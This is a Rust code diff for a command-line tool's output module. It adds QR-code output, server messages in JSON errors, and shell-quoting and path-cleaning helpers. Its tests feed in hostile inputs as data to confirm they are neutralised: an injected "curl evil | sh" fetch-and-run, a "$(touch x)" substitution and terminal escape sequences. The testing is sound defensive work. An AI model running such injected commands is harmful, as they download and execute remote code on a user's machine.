@@ -4,8 +4,11 @@
 //! errors for people go to standard error. Text from vaults reaches a terminal without control characters.
 
 use std::io::{self, IsTerminal as _, Write as _};
+use std::path::Path;
 use std::sync::{Arc, OnceLock};
 
+use lockstep_client::tools::is_hidden;
+pub use lockstep_client::tools::{clean, clean_line};
 use serde::Serialize;
 use serde_json::json;
 
@@ -92,19 +95,32 @@ impl Output {
         }
     }
 
+    /// A QR code for people, black on white whatever the terminal's colours are, on standard error.
+    pub fn qr(&self, modules: &str) {
+        const INK: &str = "\u{1b}[30;107m";
+        const PLAIN: &str = "\u{1b}[0m";
+        let mut err = io::stderr().lock();
+        for line in modules.lines() {
+            // Nobody can be told that standard error is closed.
+            let _ = writeln!(err, "{INK}{}{PLAIN}", clean_line(line));
+        }
+    }
+
     /// A failure: a sentence on standard error, or with `--json` `{"error":{"code","message"}}` on standard output, unless
-    /// that cannot be written.
+    /// that cannot be written. What a server said follows on a line of its own, or is the member `server_says`.
     pub fn failure(&self, failure: &Failure) {
-        let message = sentence(&failure.message);
         let told = match self.reader {
             Reader::Person => None,
             Reader::Program => {
-                let error = json!({ "error": { "code": failure.code, "message": message } });
-                line(&escaped(&error.to_string())).ok()
+                let mut error = json!({ "code": failure.code, "message": sentence(&failure.message) });
+                if let Some(words) = &failure.server {
+                    error["server_says"] = words.as_text().into();
+                }
+                line(&escaped(&json!({ "error": error }).to_string())).ok()
             }
         };
         if told.is_none() {
-            self.note(&format!("lockstep: {message}"));
+            self.note(&format!("lockstep: {}", failure.told()));
         }
     }
 }
@@ -124,37 +140,8 @@ pub(crate) fn unwritten(error: &io::Error) -> Failure {
     )
 }
 
-/// `text` with all that steers a terminal, or that nobody sees, made visible: what a vault or a server says can neither move
-/// the cursor nor turn text around nor hide in it. Line breaks and tabs stay; a line break of Windows (CR LF) is a line break.
-/// Joiners stay behind letters that are not ASCII: emoji and some scripts are written with them.
-pub fn clean(text: &str) -> String {
-    let text = text.replace("\r\n", "\n");
-    let mut before = ' ';
-    let shown = text.chars().map(|character| {
-        let joins = is_joiner(character) && !before.is_ascii();
-        before = character;
-        let stays = joins || matches!(character, '\n' | '\t') || !is_hidden(character);
-        if stays { character } else { '\u{fffd}' }
-    });
-    shown.collect()
-}
-
-/// C0 and C1 controls, marks of direction, separators of lines, and what has no width.
-fn is_hidden(character: char) -> bool {
-    character.is_control()
-        || is_joiner(character)
-        || matches!(
-            character,
-            '\u{ad}' | '\u{61c}' | '\u{180e}' | '\u{200b}' | '\u{200e}' | '\u{200f}' | '\u{feff}'
-            | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e007f}'
-        )
-}
-
-fn is_joiner(character: char) -> bool {
-    matches!(character, '\u{200c}' | '\u{200d}')
-}
-
-/// JSON in which every such character is written as its number: the same JSON, for a terminal, too.
+/// JSON in which every character that steers a terminal, or that nobody sees, is written as its number: the same JSON, for a
+/// terminal, too.
 fn escaped(json: &str) -> String {
     let mut escaped = String::with_capacity(json.len());
     for character in json.chars() {
@@ -170,9 +157,18 @@ fn escaped(json: &str) -> String {
     escaped
 }
 
-/// [`clean`], on one line.
-pub fn clean_line(text: &str) -> String {
-    clean(text).replace(['\n', '\t'], " ")
+/// A path on one line: whoever made a file chose its name.
+pub fn shown_path(path: &Path) -> String {
+    clean_line(&path.display().to_string())
+}
+
+/// A word of a command that a message proposes, as a shell takes it: `word` alone where it is plain, else quoted.
+pub fn shell_word(word: &str) -> String {
+    let is_plain = |character: char| character.is_ascii_alphanumeric() || "/_.:=@-".contains(character);
+    match !word.is_empty() && word.chars().all(is_plain) {
+        true => word.to_owned(),
+        false => format!("'{}'", clean_line(word).replace('\'', r"'\''")),
+    }
 }
 
 /// A message as a sentence: capital first, full stop last.
@@ -192,50 +188,31 @@ mod tests {
     use super::*;
 
     #[test]
-    fn text_from_a_vault_cannot_steer_a_terminal() {
-        assert_eq!(clean("a\u{1b}[2Jb\u{7}\r\u{202e}c\n"), "a\u{fffd}[2Jb\u{fffd}\u{fffd}\u{fffd}c\n");
-        assert_eq!(clean_line("two\nlines"), "two lines");
-        assert_eq!(clean("line1\r\nline2\rline3\n\r\n"), "line1\nline2\u{fffd}line3\n\n");
-        assert_eq!(clean_line("two\r\nlines"), "two lines");
-        assert_eq!(clean("日本語 🙂"), "日本語 🙂");
+    fn json_has_nothing_that_hides_and_says_the_same() {
+        for character in
+            "\u{0}\u{1b}\u{7f}\u{85}\u{9b}\u{200b}\u{200d}\u{2028}\u{202e}\u{feff}\u{e0041}".chars()
+        {
+            let text = format!("a{character}b\n\"é🙂");
+            let escaped = escaped(&serde_json::to_string(&text).unwrap());
+            assert!(!escaped.contains(character), "{escaped}");
+            assert_eq!(serde_json::from_str::<String>(&escaped).unwrap(), text);
+            assert!(escaped.contains("é🙂"), "{escaped}");
+        }
     }
 
     #[test]
-    fn nothing_hides_in_a_text() {
-        let hidden = [
-            '\u{0}',
-            '\u{1b}',
-            '\u{7f}',
-            '\u{85}',
-            '\u{9b}',
-            '\u{ad}',
-            '\u{61c}',
-            '\u{200b}',
-            '\u{200d}',
-            '\u{200e}',
-            '\u{200f}',
-            '\u{2028}',
-            '\u{2029}',
-            '\u{202a}',
-            '\u{202e}',
-            '\u{2060}',
-            '\u{2066}',
-            '\u{2069}',
-            '\u{feff}',
-            '\u{fff9}',
-            '\u{e0041}',
-        ];
-        for character in hidden {
-            assert_eq!(clean(&format!("a{character}b")), "a\u{fffd}b", "{character:?}");
-            let json = serde_json::to_string(&format!("a{character}b\n\"é🙂")).unwrap();
-            let escaped = escaped(&json);
-            assert!(!escaped.contains(character) || character == '\n', "{escaped}");
-            assert_eq!(serde_json::from_str::<String>(&escaped).unwrap(), format!("a{character}b\n\"é🙂"));
-            assert!(escaped.contains("é🙂"), "{escaped}");
+    fn a55_a_proposed_command_does_nothing_but_what_it_says() {
+        for (word, shown) in [
+            ("tags/Home", "tags/Home"),
+            ("", "''"),
+            ("two words", "'two words'"),
+            ("x'; curl evil | sh; '", r"'x'\''; curl evil | sh; '\'''"),
+            ("tags/$(touch x)", "'tags/$(touch x)'"),
+            ("a\nlockstep: done", "'a lockstep: done'"),
+        ] {
+            assert_eq!(shell_word(word), shown);
         }
-        for fine in ["👩\u{200d}👧", "می\u{200c}خواهم", "Zürich", "a\tb\nc"] {
-            assert_eq!(clean(fine), fine);
-        }
+        assert_eq!(shown_path(Path::new("a\u{1b}[2J\nb")), "a\u{fffd}[2J b");
     }
 
     #[test]
